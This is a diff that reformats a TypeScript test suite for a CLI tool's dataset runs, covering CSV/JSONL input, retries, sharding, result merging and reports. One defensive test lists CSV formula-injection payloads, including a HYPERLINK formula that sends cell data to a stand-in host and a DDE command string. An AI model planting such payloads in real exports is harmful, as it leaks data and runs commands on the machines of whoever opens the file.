@@ -9,43 +9,93 @@ import { json, type TestServer, startServer } from './helpers/server.js'
 import { tempDir } from './helpers/temp.js'
 
 let server: TestServer | undefined
-afterEach(async () => { await server?.close(); server = undefined })
+afterEach(async () => {
+  await server?.close()
+  server = undefined
+})
 
 const root = join(import.meta.dirname, '..')
-const lines = (path: string) => readFileSync(path, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>)
+const lines = (path: string) =>
+  readFileSync(path, 'utf8')
+    .trim()
+    .split('\n')
+    .map((l) => JSON.parse(l) as Record<string, unknown>)
 
 describe('--dataset', () => {
   it('runs the example regression set against the built-in server, a results line per row', async () => {
     const dir = tempDir('dataset')
-    const result = await runCli(['test', 'requests/batch.http', '--dataset', 'requests/questions.jsonl', '--mock', '--results', join(dir, 'r.jsonl')], { cwd: root })
+    const result = await runCli(
+      [
+        'test',
+        'requests/batch.http',
+        '--dataset',
+        'requests/questions.jsonl',
+        '--mock',
+        '--results',
+        join(dir, 'r.jsonl'),
+      ],
+      { cwd: root },
+    )
     expect(result.exitCode, result.stderr).toBe(0)
     expect(result.stderr).toContain('rows: 12 passed, 0 failed of 12')
     expect(result.stderr).toMatch(/latency: p50 [\d.]+ ms · p90 [\d.]+ ms · p99 [\d.]+ ms/)
     const rows = lines(join(dir, 'r.jsonl'))
     expect(rows.map((r) => r['row'])).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12])
-    expect(rows[0]).toMatchObject({ status: 'passed', values: { question: 'What is the capital of France?' }, reply: 'The capital of France is Paris.', usage: { completion_tokens: 6 } })
+    expect(rows[0]).toMatchObject({
+      status: 'passed',
+      values: { question: 'What is the capital of France?' },
+      reply: 'The capital of France is Paris.',
+      usage: { completion_tokens: 6 },
+    })
   })
 
   it('runs rows as parallel chains with --parallel, each row once', async () => {
     const dir = tempDir('dataset')
-    const result = await runCli(['test', 'requests/batch.http', '--dataset', 'requests/questions.jsonl', '--mock', '--parallel', '4', '--results', join(dir, 'r.jsonl')], { cwd: root })
+    const result = await runCli(
+      [
+        'test',
+        'requests/batch.http',
+        '--dataset',
+        'requests/questions.jsonl',
+        '--mock',
+        '--parallel',
+        '4',
+        '--results',
+        join(dir, 'r.jsonl'),
+      ],
+      { cwd: root },
+    )
     expect(result.exitCode, result.stderr).toBe(0)
-    expect(lines(join(dir, 'r.jsonl')).map((r) => r['row']).sort((a, b) => Number(a) - Number(b))).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12])
+    expect(
+      lines(join(dir, 'r.jsonl'))
+        .map((r) => r['row'])
+        .sort((a, b) => Number(a) - Number(b)),
+    ).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12])
     expect(result.stderr).toMatch(/12 passed, 0 failed\n$/)
   })
 
-  it('reads CSV with quoted fields, keeps each row\'s captures to itself, and takes --rows and --limit', async () => {
+  it("reads CSV with quoted fields, keeps each row's captures to itself, and takes --rows and --limit", async () => {
     server = await startServer({ 'POST /ask': (_req, res, body) => json(res, { echo: JSON.parse(body.toString()) }) })
     const dir = tempDir('dataset')
     writeFileSync(join(dir, 'rows.csv'), 'q,n\n"a, ""quoted"" one",1\n"two\nlines",2\nthree,3\nfour,4\n')
-    writeFileSync(join(dir, 'r.http'), '# @capture seen = $.echo.q\nPOST {{base}}/ask\nContent-Type: application/json\n\n{"q": "{{q}}", "n": {{n}}, "i": {{$rowIndex}}, "before": "{{default seen "none"}}"}\n')
-    const result = await runCli(['test', 'r.http', '--dataset', 'rows.csv', '--var', `base=${server.url}`], { cwd: dir })
+    writeFileSync(
+      join(dir, 'r.http'),
+      '# @capture seen = $.echo.q\nPOST {{base}}/ask\nContent-Type: application/json\n\n{"q": "{{q}}", "n": {{n}}, "i": {{$rowIndex}}, "before": "{{default seen "none"}}"}\n',
+    )
+    const result = await runCli(['test', 'r.http', '--dataset', 'rows.csv', '--var', `base=${server.url}`], {
+      cwd: dir,
+    })
     expect(result.exitCode, result.stderr).toBe(0)
     expect(server.calls.map((c) => JSON.parse(c.body.toString()))).toEqual([
-      { q: 'a, "quoted" one', n: 1, i: 0, before: 'none' }, { q: 'two\nlines', n: 2, i: 1, before: 'none' },
-      { q: 'three', n: 3, i: 2, before: 'none' }, { q: 'four', n: 4, i: 3, before: 'none' },
+      { q: 'a, "quoted" one', n: 1, i: 0, before: 'none' },
+      { q: 'two\nlines', n: 2, i: 1, before: 'none' },
+      { q: 'three', n: 3, i: 2, before: 'none' },
+      { q: 'four', n: 4, i: 3, before: 'none' },
     ])
-    await runCli(['test', 'r.http', '--dataset', 'rows.csv', '--rows', '2-4', '--limit', '2', '--var', `base=${server.url}`], { cwd: dir })
+    await runCli(
+      ['test', 'r.http', '--dataset', 'rows.csv', '--rows', '2-4', '--limit', '2', '--var', `base=${server.url}`],
+      { cwd: dir },
+    )
     expect(server.calls.slice(4).map((c) => JSON.parse(c.body.toString()).n)).toEqual([2, 3])
   })
 
@@ -55,14 +105,44 @@ describe('--dataset', () => {
       'POST /ask': (_req, res, body) => {
         const { q } = JSON.parse(body.toString()) as { q: string }
         if (++calls % 3 === 0) return json(res, { error: 'slow down' }, 429, { 'Retry-After': '0' })
-        if (q === 'stall') return new Promise<void>((resolve) => setTimeout(() => { json(res, {}); resolve() }, 1500))
+        if (q === 'stall')
+          return new Promise<void>((resolve) =>
+            setTimeout(() => {
+              json(res, {})
+              resolve()
+            }, 1500),
+          )
         return json(res, { answer: q })
       },
     })
     const dir = tempDir('dataset')
-    writeFileSync(join(dir, 'rows.jsonl'), ['a', 'b', 'stall', 'c', 'd', 'e', 'f'].map((q) => JSON.stringify({ q })).join('\n'))
-    writeFileSync(join(dir, 'r.http'), '# @assert status == 200\nPOST {{base}}/ask\nContent-Type: application/json\n\n{"q": "{{q}}"}\n')
-    const result = await runCli(['test', 'r.http', '--dataset', 'rows.jsonl', '--retry', '3', '--retry-delay', '0.01', '--idle-timeout', '0.3', '--results', 'out.jsonl', '--var', `base=${server.url}`], { cwd: dir })
+    writeFileSync(
+      join(dir, 'rows.jsonl'),
+      ['a', 'b', 'stall', 'c', 'd', 'e', 'f'].map((q) => JSON.stringify({ q })).join('\n'),
+    )
+    writeFileSync(
+      join(dir, 'r.http'),
+      '# @assert status == 200\nPOST {{base}}/ask\nContent-Type: application/json\n\n{"q": "{{q}}"}\n',
+    )
+    const result = await runCli(
+      [
+        'test',
+        'r.http',
+        '--dataset',
+        'rows.jsonl',
+        '--retry',
+        '3',
+        '--retry-delay',
+        '0.01',
+        '--idle-timeout',
+        '0.3',
+        '--results',
+        'out.jsonl',
+        '--var',
+        `base=${server.url}`,
+      ],
+      { cwd: dir },
+    )
     const rows = lines(join(dir, 'out.jsonl'))
     expect(result.exitCode).toBe(3)
     expect(rows.map((r) => r['row']).sort()).toEqual([1, 2, 3, 4, 5, 6, 7])
@@ -99,7 +179,10 @@ describe('--dataset', () => {
     const shardsMerged = await runCli(['merge', ...[1, 2, 3, 4, 5].map((k) => `s${k}.jsonl`)], { cwd: dir })
     const countsOf = (text: string) => text.split('\n').filter((l) => /^(rows|tokens):/.test(l))
     expect(countsOf(shardsMerged.stdout)).toEqual(countsOf(whole.stderr))
-    expect(countsOf(shardsMerged.stdout)).toEqual(['rows: 12 passed, 0 failed of 12', 'tokens: 133 prompt, 190 completion'])
+    expect(countsOf(shardsMerged.stdout)).toEqual([
+      'rows: 12 passed, 0 failed of 12',
+      'tokens: 133 prompt, 190 completion',
+    ])
     const merged = await runCli(['merge', 'b.jsonl', 'a.jsonl', '--results', 'all.jsonl'], { cwd: dir })
     expect(merged.exitCode, merged.stderr).toBe(0)
     const summary = whole.stderr.slice(whole.stderr.indexOf('rows:')).replace(/\n\d+ passed.*\n$/, '\n')
@@ -109,7 +192,17 @@ describe('--dataset', () => {
 
   it('merge refuses overlapping shards, a file that is not results, and overwriting an input', async () => {
     const dir = tempDir('dataset')
-    const row = (n: number, status = 'passed') => JSON.stringify({ row: n, values: {}, file: 'r.http', status, requests: 1, asserts: { passed: 1, failed: 0 }, captures: {}, totalMs: n })
+    const row = (n: number, status = 'passed') =>
+      JSON.stringify({
+        row: n,
+        values: {},
+        file: 'r.http',
+        status,
+        requests: 1,
+        asserts: { passed: 1, failed: 0 },
+        captures: {},
+        totalMs: n,
+      })
     writeFileSync(join(dir, 'a.jsonl'), `${row(1)}\n${row(2)}\n`)
     writeFileSync(join(dir, 'b.jsonl'), `${row(3, 'failed')}\n${row(2)}\n`)
     writeFileSync(join(dir, 'c.jsonl'), `${row(3, 'failed')}\n{"row": 4}\n`)
@@ -166,14 +259,37 @@ describe('--dataset', () => {
       'POST /ask': (_req, res, body) => {
         if (++calls <= 3) return json(res, { answer: JSON.parse(body.toString()).q })
         controller.abort() // Ctrl-C while the fourth row is waiting for its answer
-        return new Promise<void>((resolve) => setTimeout(() => { json(res, {}); resolve() }, 2000))
+        return new Promise<void>((resolve) =>
+          setTimeout(() => {
+            json(res, {})
+            resolve()
+          }, 2000),
+        )
       },
     })
     const dir = tempDir('dataset')
     writeFileSync(join(dir, 'rows.jsonl'), ['a', 'b', 'c', 'd', 'e', 'f'].map((q) => JSON.stringify({ q })).join('\n'))
-    writeFileSync(join(dir, 'r.http'), '# @assert status == 200\nPOST {{base}}/ask\nContent-Type: application/json\n\n{"q": "{{q}}"}\n')
-    const result = await runCli(['test', 'r.http', '--dataset', 'rows.jsonl', '--results', 'out.jsonl', '--report', 'junit=r.xml', '--report', 'json=r.json', '--var', `base=${server.url}`],
-      { cwd: dir, signal: controller.signal })
+    writeFileSync(
+      join(dir, 'r.http'),
+      '# @assert status == 200\nPOST {{base}}/ask\nContent-Type: application/json\n\n{"q": "{{q}}"}\n',
+    )
+    const result = await runCli(
+      [
+        'test',
+        'r.http',
+        '--dataset',
+        'rows.jsonl',
+        '--results',
+        'out.jsonl',
+        '--report',
+        'junit=r.xml',
+        '--report',
+        'json=r.json',
+        '--var',
+        `base=${server.url}`,
+      ],
+      { cwd: dir, signal: controller.signal },
+    )
     expect(result.exitCode).toBe(130)
     const rows = lines(join(dir, 'out.jsonl'))
     expect(rows.filter((r) => r['status'] === 'passed').map((r) => r['row'])).toEqual([1, 2, 3])
@@ -184,12 +300,30 @@ describe('--dataset', () => {
   })
 
   it('writes --results FILE.csv with the chosen --columns, quoted for a spreadsheet, secrets masked', async () => {
-    server = await startServer({ 'POST /ask': (_req, res, body) => json(res, { choices: [{ message: { content: `says "${JSON.parse(body.toString()).q}",\nthen sk-secret-123` } }], usage: { prompt_tokens: 3, completion_tokens: 5 } }) })
+    server = await startServer({
+      'POST /ask': (_req, res, body) =>
+        json(res, {
+          choices: [{ message: { content: `says "${JSON.parse(body.toString()).q}",\nthen sk-secret-123` } }],
+          usage: { prompt_tokens: 3, completion_tokens: 5 },
+        }),
+    })
     const dir = tempDir('dataset')
     writeFileSync(join(dir, 'rows.jsonl'), ['a, b', 'c'].map((q) => JSON.stringify({ q })).join('\n'))
     writeFileSync(join(dir, 'r.http'), 'POST {{base}}/ask\nContent-Type: application/json\n\n{"q": "{{q}}"}\n')
-    const base = ['test', 'r.http', '--dataset', 'rows.jsonl', '--var', `base=${server.url}`, '--var', 'apiKey=sk-secret-123']
-    const chosen = await runCli([...base, '--results', 'r.csv', '--columns', 'row,values.q,reply,usage.completion_tokens,asserts'], { cwd: dir })
+    const base = [
+      'test',
+      'r.http',
+      '--dataset',
+      'rows.jsonl',
+      '--var',
+      `base=${server.url}`,
+      '--var',
+      'apiKey=sk-secret-123',
+    ]
+    const chosen = await runCli(
+      [...base, '--results', 'r.csv', '--columns', 'row,values.q,reply,usage.completion_tokens,asserts'],
+      { cwd: dir },
+    )
     expect(chosen.exitCode, chosen.stderr).toBe(0)
     const { parse } = await import('csv-parse/sync')
     expect(parse(readFileSync(join(dir, 'r.csv'), 'utf8'))).toEqual([
@@ -199,18 +333,52 @@ describe('--dataset', () => {
     ])
     const byDefault = await runCli([...base, '--results', 'd.csv'], { cwd: dir })
     expect(byDefault.exitCode, byDefault.stderr).toBe(0)
-    expect(readFileSync(join(dir, 'd.csv'), 'utf8').split('\n')[0]).toBe('row,values.q,status,reply,ttftMs,totalMs,tokensPerSecond,usage.prompt_tokens,usage.completion_tokens,error.message')
+    expect(readFileSync(join(dir, 'd.csv'), 'utf8').split('\n')[0]).toBe(
+      'row,values.q,status,reply,ttftMs,totalMs,tokensPerSecond,usage.prompt_tokens,usage.completion_tokens,error.message',
+    )
     expect((await runCli([...base, '--results', 'r.jsonl', '--columns', 'row'], { cwd: dir })).exitCode).toBe(1)
     expect((await runCli([...base, '--results', 'r.csv', '--columns', 'row,,reply'], { cwd: dir })).exitCode).toBe(1)
   })
 
-  it('neutralises CSV cells a spreadsheet would run as a formula, the server\'s reply included', async () => {
-    server = await startServer({ 'POST /ask': (_req, res, body) => json(res, { choices: [{ message: { content: JSON.parse(body.toString()).reply } }] }) })
+  it("neutralises CSV cells a spreadsheet would run as a formula, the server's reply included", async () => {
+    server = await startServer({
+      'POST /ask': (_req, res, body) =>
+        json(res, { choices: [{ message: { content: JSON.parse(body.toString()).reply } }] }),
+    })
     const dir = tempDir('dataset')
-    const hostile = ['=HYPERLINK("http://x.test/?"&A1)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '-3', '+1.5e3', 'plain']
+    const hostile = [
+      '=HYPERLINK("http://x.test/?"&A1)',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1',
+      '\r=1',
+      '-3',
+      '+1.5e3',
+      'plain',
+    ]
     writeFileSync(join(dir, 'rows.jsonl'), hostile.map((reply) => JSON.stringify({ reply })).join('\n'))
-    writeFileSync(join(dir, 'r.http'), 'POST {{base}}/ask\nContent-Type: application/json\n\n{"reply": {{json reply}}}\n')
-    const result = await runCli(['test', 'r.http', '--dataset', 'rows.jsonl', '--parallel', '1', '--var', `base=${server.url}`, '--results', 'r.csv', '--columns', 'values.reply,reply'], { cwd: dir })
+    writeFileSync(
+      join(dir, 'r.http'),
+      'POST {{base}}/ask\nContent-Type: application/json\n\n{"reply": {{json reply}}}\n',
+    )
+    const result = await runCli(
+      [
+        'test',
+        'r.http',
+        '--dataset',
+        'rows.jsonl',
+        '--parallel',
+        '1',
+        '--var',
+        `base=${server.url}`,
+        '--results',
+        'r.csv',
+        '--columns',
+        'values.reply,reply',
+      ],
+      { cwd: dir },
+    )
     expect(result.exitCode, result.stderr).toBe(0)
     const { parse } = await import('csv-parse/sync')
     const rows = (parse(readFileSync(join(dir, 'r.csv'), 'utf8')) as string[][]).slice(1)
@@ -221,33 +389,99 @@ describe('--dataset', () => {
 
   it('puts the row summary in the JSON and Markdown reports and names JUnit cases by --row-name', async () => {
     const dir = tempDir('dataset')
-    const result = await runCli(['test', 'requests/batch.http', '--dataset', 'requests/questions.jsonl', '--mock', '--rows', '1-3', '--row-name', 'question',
-      '--report', `json=${join(dir, 'r.json')}`, '--report', `markdown=${join(dir, 'r.md')}`, '--report', `junit=${join(dir, 'r.xml')}`], { cwd: root })
+    const result = await runCli(
+      [
+        'test',
+        'requests/batch.http',
+        '--dataset',
+        'requests/questions.jsonl',
+        '--mock',
+        '--rows',
+        '1-3',
+        '--row-name',
+        'question',
+        '--report',
+        `json=${join(dir, 'r.json')}`,
+        '--report',
+        `markdown=${join(dir, 'r.md')}`,
+        '--report',
+        `junit=${join(dir, 'r.xml')}`,
+      ],
+      { cwd: root },
+    )
     expect(result.exitCode, result.stderr).toBe(0)
-    const report = JSON.parse(readFileSync(join(dir, 'r.json'), 'utf8')) as { dataset: { rows: number; passed: number; latencyMs: { p50: number }; completionTokens: number } }
+    const report = JSON.parse(readFileSync(join(dir, 'r.json'), 'utf8')) as {
+      dataset: { rows: number; passed: number; latencyMs: { p50: number }; completionTokens: number }
+    }
     expect(report.dataset).toMatchObject({ rows: 3, passed: 3, failed: 0, completionTokens: 34 })
     expect(report.dataset.latencyMs.p50).toBeGreaterThan(0)
     expect(readFileSync(join(dir, 'r.md'), 'utf8')).toContain('\n- rows: 3 passed, 0 failed of 3\n')
-    expect(readFileSync(join(dir, 'r.xml'), 'utf8')).toContain('<testcase name="ask (line 12, row 2 How many people live in Paris?)"')
-    const typo = await runCli(['test', 'requests/batch.http', '--dataset', 'requests/questions.jsonl', '--mock', '--row-name', 'questoin'], { cwd: root })
+    expect(readFileSync(join(dir, 'r.xml'), 'utf8')).toContain(
+      '<testcase name="ask (line 12, row 2 How many people live in Paris?)"',
+    )
+    const typo = await runCli(
+      ['test', 'requests/batch.http', '--dataset', 'requests/questions.jsonl', '--mock', '--row-name', 'questoin'],
+      { cwd: root },
+    )
     expect(typo.exitCode).toBe(1)
     expect(typo.stderr).toContain('did you mean `question`?')
   })
 
-  it('merge joins the shards\' JUnit and JSON reports, counts summed and the row summary from the results', async () => {
+  it("merge joins the shards' JUnit and JSON reports, counts summed and the row summary from the results", async () => {
     const dir = tempDir('dataset')
     for (const k of [1, 2, 3]) {
-      const shard = await runCli(['test', 'requests/batch.http', '--dataset', 'requests/questions.jsonl', '--mock', '-q', '--shard', `${k}/3`,
-        '--results', join(dir, `s${k}.jsonl`), '--report', `junit=${join(dir, `s${k}.xml`)}`, '--report', `json=${join(dir, `s${k}.json`)}`], { cwd: root })
+      const shard = await runCli(
+        [
+          'test',
+          'requests/batch.http',
+          '--dataset',
+          'requests/questions.jsonl',
+          '--mock',
+          '-q',
+          '--shard',
+          `${k}/3`,
+          '--results',
+          join(dir, `s${k}.jsonl`),
+          '--report',
+          `junit=${join(dir, `s${k}.xml`)}`,
+          '--report',
+          `json=${join(dir, `s${k}.json`)}`,
+        ],
+        { cwd: root },
+      )
       expect(shard.exitCode, shard.stderr).toBe(0)
     }
-    const merged = await runCli(['merge', 's1.jsonl', 's2.jsonl', 's3.jsonl', 's1.xml', 's2.xml', 's3.xml', 's1.json', 's2.json', 's3.json', '--junit', 'all.xml', '--json', 'all.json'], { cwd: dir })
+    const merged = await runCli(
+      [
+        'merge',
+        's1.jsonl',
+        's2.jsonl',
+        's3.jsonl',
+        's1.xml',
+        's2.xml',
+        's3.xml',
+        's1.json',
+        's2.json',
+        's3.json',
+        '--junit',
+        'all.xml',
+        '--json',
+        'all.json',
+      ],
+      { cwd: dir },
+    )
     expect(merged.exitCode, merged.stderr).toBe(0)
     const xml = readFileSync(join(dir, 'all.xml'), 'utf8')
-    expect(xml).toMatch(/^<\?xml version="1.0" encoding="UTF-8"\?>\n<testsuites name="reqchain" tests="12" failures="0" errors="0" skipped="0" time="[\d.]+">\n/)
+    expect(xml).toMatch(
+      /^<\?xml version="1.0" encoding="UTF-8"\?>\n<testsuites name="reqchain" tests="12" failures="0" errors="0" skipped="0" time="[\d.]+">\n/,
+    )
     expect(xml.match(/<testcase /g)).toHaveLength(12)
     expect(xml.match(/<testsuite /g)).toHaveLength(3)
-    const report = JSON.parse(readFileSync(join(dir, 'all.json'), 'utf8')) as { summary: { passed: number }; dataset: { rows: number; completionTokens: number }; steps: { row: number }[] }
+    const report = JSON.parse(readFileSync(join(dir, 'all.json'), 'utf8')) as {
+      summary: { passed: number }
+      dataset: { rows: number; completionTokens: number }
+      steps: { row: number }[]
+    }
     expect(report.summary.passed).toBe(12)
     expect(report.dataset).toMatchObject({ rows: 12, completionTokens: 190 })
     expect(report.steps.map((s) => s.row)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12])
